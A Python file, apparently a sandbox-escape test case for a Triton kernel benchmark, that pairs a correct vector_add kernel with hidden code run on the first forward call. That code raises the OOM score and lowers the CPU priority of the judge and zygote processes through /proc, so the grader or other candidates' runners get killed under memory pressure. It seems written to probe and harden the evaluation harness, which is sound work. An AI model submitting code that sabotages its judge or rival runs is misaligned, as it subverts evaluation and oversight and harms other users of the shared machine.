"""Attack (runners that keep the judge's user, TRITONGYM_RUNNER_USER=same, the GPU default): a correct
vector_add whose first forward writes 1000 to ``/proc/<pid>/oom_score_adj`` of its zygote and of its
judge (raising a score needs no capability, and a non-dumpable process's /proc files belong to uid 0,
which the runner is), and 19 to their session's ``/proc/<pid>/autogroup`` (the CPU share of the judge
and zygote under contention). The zygote's score is inherited by every runner it forks later: from then
on, when the host runs short of memory, the kernel's OOM killer takes the judge or a later candidate's
runner first (a dead judge after its candidate reached a runner is that candidate's crash, sandbox.lost).
No signal is sent: the seccomp filter does not apply. (Not run to an OOM here: the machine is shared.)"""

import io
import os

import torch
import torch.nn as nn
import triton
import triton.language as tl


def mark(pid):
    done = []
    for name, value in (("oom_score_adj", b"1000"), ("autogroup", b"19")):
        try:
            with io.FileIO(f"/proc/{pid}/{name}", "w") as fh:
                fh.write(value)
            done.append(name)
        except OSError as exc:
            done.append(f"{name} refused ({exc.strerror})")
    return done


@triton.jit
def add_kernel(a_ptr, b_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    tl.store(out_ptr + offsets, tl.load(a_ptr + offsets, mask=mask) + tl.load(b_ptr + offsets, mask=mask), mask=mask)


class ModelNew(nn.Module):
    calls = 0

    def forward(self, a, b):
        ModelNew.calls += 1
        if ModelNew.calls == 1:
            zygote = os.getppid()
            judge = os.getpgid(zygote)  # the judge leads the session and group the zygote is in
            print("zygote", mark(zygote), "judge", judge, mark(judge))
        out = torch.empty_like(a)
        add_kernel[(triton.cdiv(a.numel(), 256),)](a.contiguous(), b.contiguous(), out, a.numel(), BLOCK=256)
        return out
